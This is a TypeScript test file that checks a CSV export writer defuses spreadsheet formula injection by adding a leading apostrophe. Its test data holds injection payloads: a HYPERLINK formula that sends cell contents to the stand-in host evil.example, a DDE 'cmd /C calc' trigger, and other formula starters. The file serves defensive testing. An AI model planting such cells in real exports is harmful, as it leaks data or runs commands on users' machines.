import { describe, expect, it } from 'vitest'
import { csvCell, csvRow } from '../../../shared/utils/csv'
import { recordCsvCell } from '../../../shared/utils/records-export'
import { parseCsvWithPython as parseWithPython } from '../../e2e/support/csv'

// Cells a spreadsheet would run as formulas (issue reproductions and the usual triggers; OWASP
// "CSV Injection" lists = + - @ tab and carriage return: common practice, no further source).
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '+1+2',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  '−1+1',
  '＝1+1',
]

describe('CSV cell writer (every CSV export)', () => {
  it('neutralises text cells that start like a formula, and they read back as the text with one leading apostrophe', () => {
    const line = csvRow(HOSTILE)
    const [row] = parseWithPython(`${line}\r\n`)
    expect(row).toHaveLength(HOSTILE.length)
    for (const [i, original] of HOSTILE.entries()) {
      // What a spreadsheet sees starts with ' (shown as text, never evaluated) …
      expect(row![i]!.startsWith('\''), original).toBe(true)
      // … and the original text is recovered exactly by dropping that one apostrophe.
      expect(row![i]!.slice(1)).toBe(original)
    }
  })

  it('leaves numbers, decimal-number text and ordinary text as they are, and quotes per RFC 4180', () => {
    expect(csvCell(-1.5)).toBe('-1.5')
    expect(csvCell('-1.5e3')).toBe('-1.5e3')
    expect(csvCell('+42')).toBe('+42')
    expect(csvCell(0.1 + 0.2)).toBe('0.30000000000000004')
    expect(csvCell('lobe a')).toBe('lobe a')
    expect(csvCell(null)).toBe('')
    expect(csvCell(undefined)).toBe('')
    expect(csvCell('a, "b"')).toBe('"a, ""b"""')
    const tricky = ['a, "b"', 'line\nbreak', ' padded ', 'it\'s']
    expect(parseWithPython(`${csvRow(tricky)}\r\n`)[0]).toEqual(tricky)
  })

  it('is the writer behind the records export too (with the records\' number form)', () => {
    expect(recordCsvCell('=HYPERLINK("http://evil.example","x")')).toBe('"\'=HYPERLINK(""http://evil.example"",""x"")"')
    expect(recordCsvCell(-2.5)).toBe('-2.5')
  })
})
